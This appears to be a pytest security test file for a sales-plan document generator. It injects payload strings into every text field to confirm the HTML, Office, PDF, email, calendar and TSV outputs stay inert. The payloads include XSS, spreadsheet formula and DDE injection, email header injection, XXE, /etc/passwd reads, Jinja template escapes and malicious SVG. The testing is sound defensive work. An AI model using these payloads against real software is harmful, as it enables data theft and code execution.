"""Whatever stands in a field of the spec stays text, in every format: the file has the shape that it has with plain words.

For each kind of attack every text of a full spec is infected at once, each place with a mark of its own. A control has
plain words of the same length in the same places. Both are built, and other people's parsers compare the shapes: elements
and attributes, formulas, links, headers, calendar properties, PDF actions. A server listens for anything that would fetch.
"""

from __future__ import annotations

import copy
import csv
import io
import re
import zipfile
from dataclasses import replace
from email import message_from_bytes
from email.policy import default

import icalendar
import lxml.etree
import lxml.html
import pypdf
import pytest

from commands import run
from helpers import SAMPLES, TODAY, dump, few_of, findings_of, made, plan_values, some_of
from mapdocs.schema.fields import SPEC
from mapdocs.schema.leaves import LINE, NAME, TEXT
from mapdocs.schema.shapes import Group, Many
from strong.listening import Listener

WEB = "http://ADDRESS"
ATTACKS = {
    "HTML": '<script src="WEB/s.js"></script><img src=WEB/i onerror=alert(1)><a href="javascript:alert(1)">x</a>',
    "HTML attribute": "\"'><svg onload=alert(1)><base href='WEB/'>",
    "HTML comment": "--><iframe src=WEB></iframe><!--",
    "formula": '=HYPERLINK("WEB/f","x")',
    "formula, plus": '+WEBSERVICE("WEB/w")',
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": '@SUM(1+1)*IMAGE("WEB/g")',
    "header": "x\r\nBcc: thief@x.example\r\nContent-Type: text/html\r\n\r\nWEB",
    "header, encoded": "=?utf-8?q?x=0D=0ABcc:_thief=40x.example?=",
    "XML": ']]></w:t></w:r><w:r><w:object/></w:r><!DOCTYPE x [<!ENTITY e SYSTEM "WEB/e">]>&e;',
    "XML, entities": "&#x3C;script&#x3E;&lt;b&gt;&amp;#60;",
    "XML, instruction": "<?xml-stylesheet href='WEB/x.xsl'?><xi:include href='file:///etc/passwd'/>",
    "CSS": "}</style>*{background:url(WEB/c)}@import 'WEB/d';",
    "CSS, escape": "\\22 ;} * { content: url(WEB/y) } /*",
    "template": "{{ ''.__class__.__mro__ }}{% include 'file:///etc/passwd' %}{# WEB #}",
    "field code": '{ INCLUDEPICTURE "WEB/p" } { DDEAUTO c:\\\\x "calc" }',
    "calendar": "x\nEND:VEVENT\nBEGIN:VALARM\nATTACH:WEB/a\nATTENDEE:mailto:thief@x.example",
    "PDF": ") /JS (app.launchURL('WEB')) /S /URI /URI (WEB",
    "Markdown": "[x](WEB/m) ![y](WEB/n) | `a` | <WEB>",
    "terminal": "\u202e\u2066evil\u2069 WEB",
}


def full_spec():
    """A plan whose every field that can hold a text does."""
    values = plan_values(
        8,
        success=["Four days by March", "No overtime"],
        why={"problem": "Nine days", "cost": "An audit finding", "ask": "A signature"},
    )
    for row in values["milestones"]:
        row.update(
            note="See the plan",
            buyer_label=f"{row['milestone']} for us",
            at_risk="They were slow",
            id=row["milestone"].split()[0].lower() + row["milestone"][-1].lower(),
            agreed_on="2026-11-20",
            moved=[{"from": "2026-11-20", "on": "2026-11-19", "why": "Audit week"}],
        )
    values["buyer"]["people"][1]["email"] = "lena.brandt@northwind.example"
    values["email"] = {"to": ["dana.reyes@northwind.example"], "cc": ["lena.brandt@northwind.example"]}
    values["internal"] = {
        "crm_url": "https://crm.example/1",
        "forecast": "Best case",
        "notes": "Call first",
        "tasks": [{"task": "Pricing approval", "owner": "Sam Ortiz", "due": "2026-11-27"}],
    }
    return values


def texts_of(values, shape=SPEC, path=()):
    """The path of every field of ``values`` that holds free text."""
    if isinstance(shape, Group):
        for key, value in values.items():
            yield from texts_of(value, shape.field(key).shape, (*path, key))
    elif isinstance(shape, Many):
        for number, value in enumerate(values):
            yield from texts_of(value, shape.of, (*path, number))
    elif shape in (LINE, NAME, TEXT):
        yield path


def put(values, path, change):
    *way, last = path
    for step in way:
        values = values[step]
    values[last] = change(values[last])


def harmless_of(evil):
    return re.sub(r"[^\w\s]|_", "x", evil)


def infected(evil):
    """The spec with ``evil`` in every text that may hold it, the same with plain words, and the paths that refuse it."""
    harmless = harmless_of(evil)
    texts = {named(path): (number, path) for number, path in enumerate(texts_of(full_spec()))}
    # a line of the notes that stands in a buyer's field as well is refused by a rule of its own (MAP111)
    refused = {"internal.notes"} if "\n" in evil else set()
    while True:
        bad, control = full_spec(), full_spec()
        for name, (number, path) in texts.items():
            if name not in refused:
                put(bad, path, lambda old, n=number: f"{evil} {old} Kz{n}")
                put(control, path, lambda old, n=number: f"{harmless} {old} Kz{n}")
        errors = {f.path for values in (bad, control) for f in findings_of(values) if f.level == "error"}
        if not errors:
            return bad, control, sorted(refused)
        exact = (texts.keys() & errors) - refused
        below = [name for name in texts if name not in refused and any(name.startswith(error) for error in errors)]
        assert exact or below, errors
        refused |= exact or {below[0]}  # an error of the whole list: one field after the other gives way


def named(path):
    """A path as findings have it: milestones[0].note."""
    return "".join(f"[{step}]" if isinstance(step, int) else f".{step}" for step in path)[1:]


def page_shape(raw):
    """Elements with the names of their attributes, and where links lead."""
    tree = lxml.html.document_fromstring(raw)
    shape = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            shape.append("a comment or an instruction")
            continue
        attributes = sorted(element.attrib)
        targets = [element.get(name) for name in ("src", "href", "action", "data", "background") if element.get(name)]
        targets = [target if not target.startswith(("mailto:", "data:")) else target[:7] for target in targets]
        styles = element.get("style", "") if element.tag != "td" else ""
        shape.append((element.tag, attributes, targets, "url(" in styles))
    return shape


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def package_shape(raw):
    """The parts of a docx or xlsx, and in each the elements with their attributes' names; links; formulas."""
    shape = {}
    parser = lxml.etree.XMLParser(resolve_entities=False, no_network=True)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        for name in archive.namelist():
            if not name.endswith((".xml", ".rels", ".vml")):
                shape[name] = None
                continue
            root = lxml.etree.fromstring(archive.read(name), parser)
            assert root.getroottree().docinfo.doctype == ""
            elements = []
            # How many empty rows a page has room for, what stays together, and which columns are of one width, hang on
            # how wide the words are.
            empty = [row for row in root.iter(f"{W}tr") if not "".join(row.itertext())]
            for_the_pen = {element for row in empty for element in row.iter()}
            for element in root.iter():
                tag = element.tag if isinstance(element.tag, str) else "a comment or an instruction"
                if tag.endswith(("}phoneticPr", "}keepNext", "}col")) or element in for_the_pen:
                    continue
                wanted = {k: v for k, v in element.attrib.items() if k in ("Target", "TargetMode", "Type", "t", "dde")}
                formula = element.text if tag.endswith(("}f", "}instrText", "}formula1")) else None
                # On how many pages a sheet is printed hangs on that as well, and one page goes without saying.
                named = sorted(k for k in element.attrib if not k.endswith("}space") and k != "fitToHeight")
                elements.append((tag, named, wanted, formula))
            # How many fonts and sizes a book has hangs on how wide the words are; what kinds of things it has does not.
            shape[name] = sorted({repr(one) for one in elements}) if name == "xl/styles.xml" else elements
    return shape


def message_shape(raw):
    message = message_from_bytes(raw, policy=default.clone(raise_on_defect=True))
    addresses = [str(a.addr_spec) for h in ("to", "cc") if message[h] for a in message[h].addresses]
    parts = [(p.get_content_type(), sorted(p.keys()), p.get_content_charset()) for p in message.walk()]
    return addresses, parts, page_shape(message.get_body(("html",)).get_content())


def calendar_shape(raw):
    calendar = icalendar.Calendar.from_ical(raw)
    return [(part.name, sorted(part.keys())) for part in calendar.walk()]


def document_shape(raw):
    """What a PDF could do: its links, actions, scripts, files and form fields."""
    reader = pypdf.PdfReader(io.BytesIO(raw))
    root = reader.trailer["/Root"]
    links = sorted(
        str(annotation.get_object().get("/A", {}).get("/URI"))
        for page in reader.pages
        for annotation in page.get("/Annots", [])
    )
    return sorted(set(links)), [key for key in ("/OpenAction", "/AA", "/AcroForm", "/Names") if key in root]


def rows_shape(raw):
    lines = list(csv.reader(io.StringIO(raw.decode()), delimiter="\t", quoting=csv.QUOTE_NONE))
    return [len(line) for line in lines], [cell[:1] in "=+-@" for line in lines for cell in line if cell]


SHAPES = {
    "map.eml": message_shape,
    "map.html": page_shape,
    "map.txt": lambda raw: raw.count(b"\x9b"),
    "map.docx": package_shape,
    "map.xlsx": package_shape,
    "map.pdf": document_shape,
    "review.ics": calendar_shape,
    "milestones.ics": calendar_shape,
    "internal.xlsx": package_shape,
    "crm-note.html": page_shape,
    "crm-note.tsv": rows_shape,
}


@pytest.mark.parametrize("kind", some_of(ATTACKS, "HTML", "formula"))
def test_a_text_stays_a_text_in_every_format(kind, measure):
    with Listener() as listener:
        evil = ATTACKS[kind].replace("WEB", WEB).replace("ADDRESS", listener.address)
        bad, control, refused = infected(evil)
        count = len(list(texts_of(bad)))
        assert len(refused) <= count * 0.45, refused
        # what is found in the bad words may not be found in the plain ones: the control tells the same, in plain words
        found = findings_of(bad)
        plainly = tuple(
            replace(f, **{part: getattr(f, part).replace(evil, harmless_of(evil)) for part in ("message", "hint")})
            for f in found
        )
        files, plain = made(bad, found=found), made(control, found=plainly)
        assert sorted(files) == sorted(plain)
        for name, shape_of in SHAPES.items():
            assert shape_of(files[name]) == shape_of(plain[name]), name
        assert listener.heard == []
    measure(f"injection, {kind}: {count - len(refused)} fields, {len(SHAPES)} files, shapes as with plain words")


@pytest.mark.parametrize("character", few_of(["\x00", "\x1b[31m", "\x9b31m", "\x7f", "\ufffe", "\ud800"], 3))
def test_characters_that_steer_a_terminal_are_refused(character):
    values = full_spec()
    for number, path in enumerate(list(texts_of(values))):
        if number % 7 == 0:
            infected_once = copy.deepcopy(values)
            put(infected_once, path, lambda old: f"{old} {character}")
            assert [f for f in findings_of(infected_once) if f.level == "error"], path


@pytest.mark.parametrize(
    "kind", some_of(("HTML", "HTML attribute", "formula", "CSS", "template", "terminal"), "HTML", "terminal")
)
def test_the_pages_and_sheets_of_other_commands(kind, tmp_path):
    """next, diff, worksheet, and what is printed to a terminal."""
    with Listener() as listener:
        evil = ATTACKS[kind].replace("WEB", WEB).replace("ADDRESS", listener.address)
        bad, control, _ = infected(evil)
        shapes = []
        for name, values in (("bad", bad), ("control", control)):
            folder = tmp_path / name
            folder.mkdir()
            (folder / "deal.yaml").write_text(dump(values), "utf-8")
            values["milestones"][0]["exit_criteria"] += " more"
            (folder / "later.yaml").write_text(dump(values), "utf-8")
            day = ("--today", TODAY.isoformat())
            done = [
                run("next", "deal.yaml", "--format", "html", "-o", "next.html", *day, cwd=folder),
                run("next", "deal.yaml", "--format", "csv", "-o", "next.csv", *day, cwd=folder),
                run("next", "deal.yaml", *day, cwd=folder),
                run("diff", "deal.yaml", "later.yaml", "--format", "html", "-o", "diff.html", cwd=folder),
                run("diff", "deal.yaml", "later.yaml", cwd=folder),
                run("worksheet", "--for", "deal.yaml", "-o", "sheet.pdf", cwd=folder),
            ]
            for command in done:
                assert command.returncode == 0, command.stderr
                assert not re.search("[\x1b\x9b\u202e\u2066]", command.stdout + command.stderr)
            cells = list(csv.reader(io.StringIO((folder / "next.csv").read_text("utf-8"))))
            assert not [cell for line in cells for cell in line if cell[:1] in ("=", "+", "@", "\t", "\r")]
            shapes.append(
                (
                    page_shape((folder / "next.html").read_bytes()),
                    page_shape((folder / "diff.html").read_bytes()),
                    document_shape((folder / "sheet.pdf").read_bytes()),
                    [len(line) for line in cells],
                )
            )
        assert shapes[0] == shapes[1]
        assert listener.heard == []


@pytest.mark.parametrize(
    "link",
    few_of(
        [
            "javascript:alert(1)",
            "data:text/html,x",
            "file:///etc/passwd",
            'https://x.example/"onclick="x',
            "https://x.example/\r\nBcc: t@x",
            "https://x.example/<script>",
            "http://",
            "//x.example",
            "https://user:pw@x.example/\\",
        ],
        3,
    ),
)
@pytest.mark.parametrize("field", [("deal", "map_url"), ("internal", "crm_url")])
def test_a_link_that_is_no_plain_web_address_is_refused(link, field):
    values = full_spec()
    values[field[0]][field[1]] = link
    errors = [f for f in findings_of(values) if f.level == "error"]
    assert [(f.code, f.path) for f in errors] == [("MAP017", ".".join(field))]


@pytest.mark.parametrize(
    "brand",
    [
        {"font": "x'; } * { background: url(WEB/f) } @font-face { src: url(WEB/g) } /*"},
        pytest.param({"font": "</style><script src=WEB></script>"}, marks=pytest.mark.long),
        pytest.param({"logo": "WEB/logo.svg"}, marks=pytest.mark.long),
        {"logo": "../../../../etc/passwd"},
        pytest.param({"logo": "evil.svg"}, marks=pytest.mark.long),
        {"logo": "linked.svg"},
    ],
)
def test_the_brand_fetches_nothing(brand, tmp_path):
    with Listener() as listener:
        web = f"http://{listener.address}"
        (tmp_path / "evil.svg").write_text(
            f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30">'
            f'<style>@import url({web}/css); rect {{ fill: url({web}/#f) }}</style><image xlink:href="{web}/i.png" width="9" height="9"/>'
            f'<image xlink:href="file:///etc/hostname" width="9" height="9"/><script xlink:href="{web}/s"/>'
            f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{web}"/></foreignObject><rect width="9" height="9"/></svg>'
        )
        (tmp_path / "linked.svg").write_text(
            f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{web}/e">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&e;</text></svg>'
        )
        stated = {key: value.replace("WEB", web) for key, value in brand.items()}
        (tmp_path / "mapdocs.yaml").write_text(dump({"brand": stated}), "utf-8")
        (tmp_path / "deal.yaml").write_text(dump(full_spec()), "utf-8")
        done = run("build", "deal.yaml", "--today", TODAY.isoformat(), cwd=tmp_path)
        assert "Traceback" not in done.stderr
        assert listener.heard == []
        written = [*tmp_path.glob("out/*/*/*.docx")]
        assert bool(written) == (done.returncode == 0), done.stderr
        for path in written:
            with zipfile.ZipFile(path) as archive:
                assert not [n for n in archive.namelist() if b"root:" in archive.read(n)]


def test_the_listener_hears_whoever_calls():
    """The check above can fail."""
    from urllib.request import urlopen

    with Listener() as listener:
        urlopen(f"http://{listener.address}/x", timeout=5).close()
        assert listener.heard[0].startswith(b"GET /x")


@pytest.mark.parametrize(
    "line",
    few_of(
        [
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ cycler.__init__.__globals__ }}",
            "{% include '/etc/passwd' %}",
            "{% include '../../../../etc/passwd' %}",
            "{{ plan.__class__.__init__.__globals__ }}",
            "{{ plan.rows.append(1) }}",
            "{{ self._TemplateReference__context }}",
            "{% for a in range(999999999) %}x{% endfor %}",
        ],
        3,
    ),
)
def test_a_template_of_the_users_own_is_held_in(line, tmp_path):
    """A changed template can look like anything; it cannot read the disk, reach Python or run for ever."""
    folder = tmp_path / "looks"
    folder.mkdir()
    (folder / "email.txt.j2").write_text(f"secret {line} end")
    (tmp_path / "mapdocs.yaml").write_text("templates: looks\n")
    (tmp_path / "deal.yaml").write_text((SAMPLES / "northwind.yaml").read_text("utf-8"), "utf-8")
    done = run("build", "deal.yaml", "--only", "email", "--today", TODAY.isoformat(), cwd=tmp_path, timeout=20)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "Traceback" not in done.stderr
    assert "the template email.txt.j2, line 1:" in done.stderr
    assert "or delete it there" in done.stderr
    assert not list(tmp_path.glob("out/*/*/*"))


@pytest.mark.parametrize(
    ("name", "content", "said"),
    few_of(
        [
            ("plan.html.j2", "<p>{{ words( }}", "plan.html.j2, line 1: "),
            (
                "plan.html.j2",
                "<link rel=stylesheet href='http://127.0.0.1:9/x.css'>",
                "refused to fetch http://127.0.0.1:9/x.css",
            ),
            ("plan.html.j2", "<link rel=stylesheet href='file:///etc/passwd'>", "refused to fetch file:///etc/passwd"),
            ("plan.css.j2", "{{ 1 / 0 }}", "plan.css.j2, line 1: division by zero"),
            ("labels/en.yaml", "a: [", "labels/en.yaml is not YAML"),
            ("labels/en.yaml", "- a", "labels/en.yaml holds no labels"),
            ("brand.docx", "not a document", "brand.docx is no Word document"),
            ("email.txt.j2", b"\xff\xfe\x00", "email.txt.j2"),
        ],
        3,
    ),
)
def test_a_wrong_template_is_named(name, content, said, tmp_path):
    (tmp_path / "looks" / "labels").mkdir(parents=True)
    (tmp_path / "looks" / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    (tmp_path / "mapdocs.yaml").write_text("templates: looks\n")
    (tmp_path / "deal.yaml").write_text(dump(full_spec()), "utf-8")
    done = run("build", "deal.yaml", "--today", TODAY.isoformat(), cwd=tmp_path)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "Traceback" not in done.stderr
    assert said in done.stderr
    assert not list(tmp_path.glob("out/*/*/*"))
